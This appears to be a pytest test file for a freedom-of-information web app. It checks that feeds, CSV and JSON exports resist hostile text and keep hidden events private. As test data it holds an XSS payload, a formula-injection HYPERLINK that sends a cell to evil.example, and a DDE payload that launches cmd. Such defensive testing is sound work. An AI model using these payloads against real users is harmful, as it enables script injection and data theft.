"""What other programs read must survive hostile text (issue 10, items 11-16): feeds stay valid
XML and never carry live HTML, CSV cells cannot start a formula, the open data shows no hidden
step, and bad parameters get a clear answer before anything is streamed."""

from __future__ import annotations

import csv
import io
import json
from xml.etree import ElementTree

import pytest
from django.urls import reverse

from foia.csvsafe import safe_cell
from foia.models import Event, EventKind

pytestmark = pytest.mark.django_db
ATOM = "{http://www.w3.org/2005/Atom}"
HUGE = str(2**70)


def body(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode()


def test_a_control_character_in_an_answer_does_not_take_the_feeds_down(client, story):
    Event.objects.filter(pk=story.answer.pk).update(
        text="Prvi red\x0bdrugi red\x01 i \x1b[31m \ufffe kraj"
    )
    Event.objects.filter(pk=story.refusal.pk).update(decision_number="01\x0c-45")
    for url in (
        reverse("public:feed"),
        reverse("public:authority_feed", args=[story.answered.authority_id]),
    ):
        response = client.get(url)
        assert response.status_code == 200
        tree = ElementTree.fromstring(response.content)
        summaries = [e.text or "" for e in tree.iter(f"{ATOM}summary")]
        assert any("Prvi red" in s and "drugi red" in s and "kraj" in s for s in summaries)


def test_a_control_character_in_a_subject_does_not_take_the_feeds_down(client, story):
    story.answered.__class__.objects.filter(pk=story.answered.pk).update(
        subject="Kamere\x0b na\x08 raskrsnicama"
    )
    response = client.get(reverse("public:feed"))
    assert response.status_code == 200
    titles = [e.text for e in ElementTree.fromstring(response.content).iter(f"{ATOM}title")]
    assert any(t and "Kamere" in t and "raskrsnicama" in t for t in titles)


def test_feed_summaries_are_plain_text_so_readers_never_render_user_html(client, story):
    Event.objects.filter(pk=story.answer.pk).update(
        text='<img src=x onerror="alert(1)"><script>alert(2)</script>'
    )
    tree = ElementTree.fromstring(client.get(reverse("public:feed")).content)
    summaries = list(tree.iter(f"{ATOM}summary"))
    assert summaries
    assert all(s.get("type") == "text" for s in summaries)
    assert any("<script>alert(2)</script>" in (s.text or "") for s in summaries)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_that_could_start_a_formula_is_neutralised(start):
    assert safe_cell(f"{start}HYPERLINK(1)") == f"'{start}HYPERLINK(1)"
    assert safe_cell("Kamere") == "Kamere"
    assert safe_cell("") == ""


def test_the_csv_export_neutralises_formula_subjects(client, story):
    story.answered.__class__.objects.filter(pk=story.answered.pk).update(
        subject='=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    )
    response = client.get(reverse("public:export_csv"))
    rows = list(csv.DictReader(io.StringIO(body(response))))
    subject = next(r["subject"] for r in rows if int(r["id"]) == story.answered.pk)
    assert subject.startswith("'=HYPERLINK")
    # The JSON keeps the text as written: it is data, not a spreadsheet.
    data = json.loads(body(client.get(reverse("public:export_json"))))
    assert any(r["subject"].startswith("=HYPERLINK") for r in data["requests"])


def test_the_dashboard_csvs_neutralise_formula_names(client, story, settings):
    settings.PUBLIC_RANKING_MIN_REQUESTS = 1
    story.answered.authority.__class__.objects.filter(pk=story.answered.authority_id).update(
        name="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    response = client.get(reverse("public:dashboard_csv", args=["best"]))
    assert response.status_code == 200
    text = response.content.decode()
    assert "SUM(1+1)" in text
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", row


def _export_row(client, pk: int) -> dict:
    data = json.loads(body(client.get(reverse("public:export_json"))))
    return next(r for r in data["requests"] if r["id"] == pk)


def test_a_hidden_appeal_is_not_in_the_open_data(client, story):
    Event.objects.filter(request=story.refused, kind=EventKind.APPEAL_FILED).update(is_public=False)
    Event.objects.filter(request=story.refused, kind=EventKind.COMMISSIONER_DECISION).update(
        is_public=False
    )
    row = _export_row(client, story.refused.pk)
    assert row["appealed_on"] is None
    assert row["appeal_ground"] is None
    assert row["appealed"] is None
    assert row["commissioner_outcome"] is None
    assert row["commissioner_decided_on"] is None
    rows = list(csv.DictReader(io.StringIO(body(client.get(reverse("public:export_csv"))))))
    csv_row = next(r for r in rows if int(r["id"]) == story.refused.pk)
    assert csv_row["appealed_on"] == "" and csv_row["appeal_ground"] == ""
    # What stays public is still exported.
    assert row["outcome"] == "refused"


def test_a_hidden_receipt_is_not_in_the_open_data(client, story, frozen):
    from tests.public.conftest import D, rec

    rec(story.silent, "delivered", D(2026, 10, 22), is_public=False)
    story.silent.refresh_from_db()
    assert story.silent.received_on is not None
    row = _export_row(client, story.silent.pk)
    assert row["received_on"] is None


def test_a_hidden_receipt_is_shown_on_no_public_surface(client, story, frozen):
    """The page, the log, the API and the export agree: a hidden delivery shows no receipt day."""
    from tests.public.conftest import D, rec

    rec(story.silent, "delivered", D(2026, 10, 22), is_public=False)
    story.silent.refresh_from_db()
    received = story.silent.received_on
    assert received is not None
    page = client.get(reverse("public:request", args=[story.silent.pk])).content.decode()
    assert f'datetime="{received.isoformat()}"' not in page
    log = client.get(reverse("public:requests")).content.decode()
    assert f'datetime="{received.isoformat()}"' not in log
    detail = client.get(f"/api/v1/requests/{story.silent.pk}/").json()
    assert detail["received_on"] is None
    # Shown again once the step is public.
    Event.objects.filter(request=story.silent, kind=EventKind.DELIVERED).update(is_public=True)
    page = client.get(reverse("public:request", args=[story.silent.pk])).content.decode()
    assert f'datetime="{received.isoformat()}"' in page
    assert client.get(f"/api/v1/requests/{story.silent.pk}/").json()["received_on"] == str(received)


def test_a_hidden_answer_is_shown_on_no_public_surface(client, story):
    story.answered.refresh_from_db()
    answered_on = Event.objects.get(pk=story.answer.pk).occurred_on
    page = client.get(reverse("public:request", args=[story.answered.pk])).content.decode()
    assert "timing-" in page
    Event.objects.filter(pk=story.answer.pk).update(is_public=False)
    page = client.get(reverse("public:request", args=[story.answered.pk])).content.decode()
    assert "timing-early" not in page and "timing-late" not in page
    assert "timing-on-time" not in page
    items = client.get("/api/v1/requests/").json()["results"]
    item = next(i for i in items if i["id"] == story.answered.pk)
    assert item["first_answer_on"] is None
    assert item["outcome"] is None and item["answered_in_time"] is None
    log = client.get(reverse("public:requests")).content.decode()
    assert f'datetime="{answered_on.isoformat()}"' not in log


def test_a_hidden_answer_is_not_in_the_open_data(client, story):
    Event.objects.filter(pk=story.answer.pk).update(is_public=False)
    row = _export_row(client, story.answered.pk)
    assert row["first_answer_on"] is None
    assert row["outcome"] is None
    assert row["days_to_answer"] is None
    assert row["answered_in_time"] is None


@pytest.mark.parametrize("url_name", ["public:export_json", "public:export_csv"])
@pytest.mark.parametrize(
    "params",
    [{"authority": HUGE}, {"authority": "²"}, {"year": "99999"}, {"q": "a\x00b"}],
)
def test_an_export_with_a_bad_parameter_is_refused_before_streaming(
    client, story, url_name, params
):
    response = client.get(reverse(url_name), params)
    assert response.status_code == 400
    assert not response.streaming
    assert list(params)[0] in response.content.decode()


def test_a_failing_export_stream_does_not_end_like_a_complete_one(client, story, monkeypatch):
    from foia.public import exports

    def broken(*args, **kwargs):
        yield dict.fromkeys(exports.COLUMN_NAMES)
        raise RuntimeError("database went away")

    monkeypatch.setattr(exports, "export_rows", broken)
    # The client reads the stream whole: the failure surfaces instead of a complete document.
    with pytest.raises(RuntimeError):
        response = client.get(reverse("public:export_json"))
        b"".join(response.streaming_content)


BAD_VALUES = ["²", HUGE, "-1", "1\x00", "a\x00", "١", "0001-01-01", "99999", "x" * 5000]


def test_the_dashboard_answers_a_bad_scope_with_a_clear_not_found(client, story):
    for name in ("authority", "campaign"):
        for value in BAD_VALUES:
            for url in (
                reverse("public:dashboard"),
                reverse("public:dashboard_csv", args=["summary"]),
            ):
                response = client.get(url, {name: value})
                assert response.status_code == 404, (url, name, value)


def test_the_log_and_directory_ignore_bad_parameters_without_a_server_error(client, story):
    names = ("authority", "campaign", "year", "q", "page", "kind", "topic", "sort", "overdue")
    for value in BAD_VALUES:
        for url in (reverse("public:requests"), reverse("public:authorities")):
            for name in names:
                response = client.get(url, {name: value})
                # A page past the last one is not found; every other bad value is ignored.
                expected = {200, 404} if name == "page" else {200}
                assert response.status_code in expected, (url, name, value)
